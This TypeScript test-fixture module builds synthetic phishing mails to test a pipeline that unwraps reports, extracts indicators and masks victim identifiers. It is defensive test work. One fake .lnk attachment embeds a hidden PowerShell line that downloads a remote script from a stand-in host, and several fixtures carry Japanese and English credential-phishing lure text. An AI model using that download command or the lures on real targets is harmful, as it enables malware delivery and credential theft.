// Fixture mails for the indicator, sanitizer and sweep tests, built with the shared builders and
// run through the real unwrapping, extraction and sanitizer: the organisations, the victims, and
// one mail per situation the sanitizer must handle.
import { createHash } from 'node:crypto';
import { unwrapForward, type OriginalItem, type Unwrapped } from '../../core/mail/forward/index.ts';
import { extractIndicators, type Extracted } from '../../analysis/indicators/index.ts';
import {
  buildSanitizeContext,
  victimTextsOf,
  infrastructureOf,
  loadSanitizationRules,
  loadWarningLists,
  sanitize,
  type OrganisationRecord,
  type SanitizeContext,
  type Sanitized,
} from '../../analysis/sanitize/index.ts';
import type { FileAnalysis, YaraMatch } from '../../analysis/types.ts';
import { buildForward, type ForwardOptions, type ForwardStyle, type MailSpec } from '../fixtures/mail-builder.ts';

export const POLICIES = new URL('../../policies', import.meta.url).pathname;
export const RULES = loadSanitizationRules(POLICIES);
export const WARNING_LISTS = loadWarningLists(POLICIES);

export const CORP: OrganisationRecord = {
  id: 'org-corp',
  name: 'Corp Example Inc.',
  domains: ['corp.example', 'corp-group.example'],
  networks: ['198.51.100.0/24', '2001:db8:c0:1::/64'],
};
export const RAIL: OrganisationRecord = { id: 'org-rail', name: '東京レール株式会社', domains: ['tokyo-rail.example'], networks: ['192.0.2.128/25'] };
export const ORGS: readonly OrganisationRecord[] = [CORP, RAIL];
export const EXCHANGE = { domains: ['c4tap.example'], addresses: ['report@c4tap.example'], networks: [] as string[] };

export const VICTIM = { name: 'Taro Yamada', address: 't.yamada@corp.example' };
export const VICTIM_JA = { name: '山田 太郎', address: 'taro.yamada@corp.example' };
export const COLLEAGUE = { name: '鈴木 花子', address: 'hanako.suzuki@corp.example' };
export const SUBMITTER = 'SOC Team <soc@corp.example>';

const DATE = 'Mon, 1 Apr 2024 10:15:02 +0900';
const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string) => Buffer.from(s, 'utf8').toString('base64url');
const md5 = (s: string) => createHash('md5').update(s).digest('hex');

/** A URL with the victim's address base64-encoded in its query, percent-encoded in the path, in the fragment. */
export const VICTIM_URLS: MailSpec = {
  from: 'IT Support <support@mailbox-verify-portal.xyz>',
  to: `${VICTIM.name} <${VICTIM.address}>`,
  cc: `"${COLLEAGUE.name}" <${COLLEAGUE.address}>`,
  subject: `${VICTIM.name}様: メールボックスの容量が上限に達しました (${VICTIM.address})`,
  text: [
    'Your mailbox is full. Verify your account within 24 hours:',
    `hxxps://mailbox-verify-portal[.]xyz/login?u=${b64(VICTIM.address)}&lang=ja`,
    `https://files-share-portal.top/${encodeURIComponent(VICTIM.address)}/view`,
    `https://mailbox-verify-portal.xyz/s/#${VICTIM.address}`,
    `https://mailbox-verify-portal.xyz/r/?next=%2Fhome#id=${b64url(VICTIM.address.toUpperCase())}`,
    `Unsubscribe: https://news-lure-mailer.xyz/u/${encodeURIComponent(VICTIM.name)}?c=spring`,
  ].join('\n'),
  html: `<p>Dear ${VICTIM.name},</p><a href="https://mailbox-verify-portal.xyz/l/${b64url(VICTIM.address)}">Verify</a><img src="https://trk.mailbox-verify-portal.xyz/o.gif?h=${md5(VICTIM.address)}">`,
  messageId: '<20240401.abc123@mailbox-verify-portal.xyz>',
  headers: {
    'X-Mailer': 'PHPMailer 6.1.4 (https://github.com/PHPMailer/PHPMailer)',
    'Reply-To': 'Helpdesk <help@quick-pay-transfer.xyz>',
    'Delivered-To': VICTIM.address,
  },
  received: [
    `from mx1.corp.example (mx1.corp.example [198.51.100.10]) by mbox.corp.example (Postfix) with ESMTP id 1A; ${DATE}`,
    `from mail.mailbox-verify-portal.xyz (mail.mailbox-verify-portal.xyz [203.0.113.45]) by mx1.corp.example (Postfix) with ESMTPS id 2B for <${VICTIM.address}>; ${DATE}`,
    `from localhost (localhost [127.0.0.1]) by mail.mailbox-verify-portal.xyz (Postfix) with ESMTP id 3C; ${DATE}`,
  ],
};

/** An IDN look-alike of a participant domain, with the victim's Japanese name in URLs and subject. */
export const IDN_LOOKALIKE: MailSpec = {
  from: '経理部 <keiri@соrp.example>', // Cyrillic с and о
  to: `"${VICTIM_JA.name}" <${VICTIM_JA.address}>`,
  subject: `【重要】${VICTIM_JA.name.replace(' ', '')}様 Corp Example Inc. 経費精算のお願い`,
  text: [
    `${VICTIM_JA.name}様`,
    '経費精算システムのパスワードが失効します。以下から更新してください。',
    `https://login.соrp.example/owa/?user=${encodeURIComponent(VICTIM_JA.name.replace(' ', ''))}`,
    `https://c0rp-group.example/auth/${b64url(VICTIM_JA.address)}`,
    `https://portal.corp.example.session-check.xyz/sso`,
  ].join('\n'),
  messageId: '<expense-0401@соrp.example>',
  headers: { 'Reply-To': 'payments@quick-pay-transfer.xyz' },
  received: [`from relay.cloudmail-sender.xyz (relay.cloudmail-sender.xyz [203.0.113.80]) by mx1.corp.example (Postfix) with ESMTPS id 9Z; ${DATE}`],
};

/** A Received chain with participant hops, attacker hops, an IPv6 hop and a forged bottom hop. */
export const RECEIVED_CHAIN: MailSpec = {
  from: 'Rail Procurement <procurement@tokyo-rail-tender.xyz>',
  to: `${VICTIM.name} <${VICTIM.address}>`,
  subject: 'Tender documents for FY2024 rolling stock maintenance',
  text: 'Please find the tender documents attached. Download link in the attached note.',
  messageId: '<tender-88121@tokyo-rail-tender.xyz>',
  received: [
    `from mbox-relay.corp.example (mbox-relay.corp.example [10.20.0.5]) by mbox01.corp.example (Postfix) with LMTP id A1; ${DATE}`,
    `from mx1.corp.example (mx1.corp.example [198.51.100.25]) by mbox-relay.corp.example with ESMTP id A2; ${DATE}`,
    `from smtp.tokyo-rail-tender.xyz (smtp.tokyo-rail-tender.xyz [203.0.113.77]) by mx1.corp.example (Postfix) with ESMTPS id A3 for <${VICTIM.address}>; ${DATE}`,
    `from [IPv6:2001:db8:bad::25] (helo=ws01.tokyo-rail-tender.xyz) by smtp.tokyo-rail-tender.xyz with esmtpa (Exim 4.96) (envelope-from <procurement@tokyo-rail-tender.xyz>) id A4; ${DATE}`,
    `from unknown (HELO mx9.corp.example) (198.51.100.99) by mx1.corp.example with SMTP; ${DATE}`,
  ],
  attachments: [
    {
      filename: 'download-note.txt',
      content: Buffer.from(`Documents: https://tender-docs.tokyo-rail-tender.xyz/fy2024/${VICTIM.address}/pack.zip\r\nContact ${VICTIM.address}\r\n`),
      contentType: 'text/plain',
    },
    {
      filename: 'tender.url',
      content: Buffer.from('[InternetShortcut]\r\nURL=http://203.0.113.90:8080/tender.hta\r\n'),
      contentType: 'application/octet-stream',
    },
    {
      filename: `Invoice_${VICTIM.name.replace(' ', '_')}.pdf.lnk`,
      content: Buffer.concat([
        Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]),
        Buffer.from('powershell -w hidden iwr https://cdn.tender-payload.xyz/a.ps1', 'utf16le'),
        Buffer.alloc(16),
      ]),
      contentType: 'application/octet-stream',
    },
  ],
};

/** A mass mailing: undisclosed recipients, the victim only in Delivered-To (Bcc). */
export const MASS_MAILING: MailSpec = {
  from: 'Amazon <no-reply@amaz0n-account-security.xyz>',
  to: 'undisclosed-recipients:;',
  subject: 'アカウントの確認が必要です #88213',
  text: 'お客様のアカウントは一時停止されています。https://amaz0n-account-security.xyz/verify?session=88213 から確認してください。',
  messageId: '<88213.mass@amaz0n-account-security.xyz>',
  headers: { 'Delivered-To': VICTIM.address },
  received: [
    `from bulk7.amaz0n-account-security.xyz (bulk7.amaz0n-account-security.xyz [203.0.113.7]) by mx1.corp.example (Postfix) with ESMTP id M1; ${DATE}`,
  ],
};

/** A Japanese (ISO-2022-JP) mail with the victim's name in the subject and a UTF-8 percent-encoded name in a URL. */
export const JAPANESE_MAIL: MailSpec = {
  from: '人事部 <jinji@hr-notice-portal.xyz>',
  to: `"${VICTIM_JA.name}" <${VICTIM_JA.address}>`,
  subject: `${VICTIM_JA.name}様 賞与明細のお知らせ`,
  text: `${VICTIM_JA.name}様\n賞与明細をご確認ください。\nhttps://hr-notice-portal.xyz/${encodeURIComponent(VICTIM_JA.name)}/meisai?m=${b64(VICTIM_JA.address).replace(/=+$/, '')}\nパスワード: Kyuyo2024`,
  charset: 'iso-2022-jp',
  messageId: '<meisai-2024@hr-notice-portal.xyz>',
  received: [`from hr-notice-portal.xyz (hr-notice-portal.xyz [203.0.113.99]) by mx1.corp.example (Postfix) with ESMTP id J1; ${DATE}`],
};

export interface Fixture {
  readonly name: string;
  readonly spec: MailSpec;
  readonly style: ForwardStyle;
  readonly options?: ForwardOptions;
  /** YARA matches and AV names to attach to every file of the fixture. */
  readonly yara?: readonly YaraMatch[];
  readonly av?: string;
}

export const FIXTURES: readonly Fixture[] = [
  {
    name: 'victim identifiers in URLs',
    spec: VICTIM_URLS,
    style: 'rfc822',
    options: { note: `Reported by ${VICTIM.name}. Contact csirt@corp.example`, submitter: SUBMITTER },
  },
  { name: 'IDN look-alike', spec: IDN_LOOKALIKE, style: 'eml', options: { submitter: SUBMITTER } },
  {
    name: 'Received chain',
    spec: RECEIVED_CHAIN,
    style: 'rfc822',
    options: { submitter: SUBMITTER },
    yara: [{ rule: 'C4TAP_LNK_Lure', namespace: 'default', tags: ['lnk'], meta: { severity: 'high' } }],
    av: 'Win.Trojan.Agent-1234',
  },
  { name: 'mass mailing', spec: MASS_MAILING, style: 'rfc822', options: { submitter: SUBMITTER } },
  { name: 'Japanese mail', spec: JAPANESE_MAIL, style: 'rfc822', options: { submitter: SUBMITTER, note: '山田さんから転送されました。' } },
  { name: 'Outlook inline forward', spec: VICTIM_URLS, style: 'inline-outlook', options: { submitter: SUBMITTER, note: 'FYI' } },
];

/** A FileAnalysis of an attachment as the files stage would record it (hashes computed here). */
export function fileAnalysisOf(name: string | null, content: Buffer, extra: { yara?: readonly YaraMatch[]; av?: string } = {}): FileAnalysis {
  const hash = (alg: string) => createHash(alg).update(content).digest('hex');
  return {
    file: { role: 'attachment', declaredName: name, declaredType: null, path: name ? [name] : [], parentSha256: null },
    facts: { sha256: hash('sha256'), sha1: hash('sha1'), md5: hash('md5'), size: content.length, detectedType: null, detectedExt: null, flags: {} },
    yara: { kind: 'scanned', matches: extra.yara ?? [] },
    av: extra.av ? { kind: 'infected', name: extra.av } : { kind: 'clean' },
    archive: null,
  };
}

export interface Analysed {
  readonly unwrapped: Unwrapped;
  readonly item: OriginalItem;
  readonly context: SanitizeContext;
  readonly extracted: Extracted;
  readonly sanitized: Sanitized;
}

/** The fixture forwarded, unwrapped, extracted and sanitized exactly as the pipeline does it. */
export async function analyse(f: Fixture): Promise<Analysed> {
  const raw = await buildForward(f.style, f.spec, f.options ?? {});
  const unwrapped = await unwrapForward(raw);
  if (unwrapped.kind !== 'unwrapped') throw new Error(`${f.name}: unwrap failed: ${unwrapped.message}`);
  const item = unwrapped.items[0]!;
  const context = buildSanitizeContext({
    headers: item.headers,
    forward: unwrapped,
    envelope: { mailFrom: 'soc@corp.example' },
    texts: victimTextsOf(item),
    organisations: ORGS,
    submitterOrgId: CORP.id,
    exchange: EXCHANGE,
    warningLists: WARNING_LISTS,
    rules: RULES,
  });
  const files = item.attachments.map((a) => fileAnalysisOf(a.filename, a.content, { ...(f.yara ? { yara: f.yara } : {}), ...(f.av ? { av: f.av } : {}) }));
  const extracted = extractIndicators({ item, files, infrastructure: infrastructureOf(context) });
  const sanitized = sanitize(extracted.candidates, item.headers.subject, { ...context, internalHops: extracted.received });
  return { unwrapped, item, context, extracted, sanitized };
}
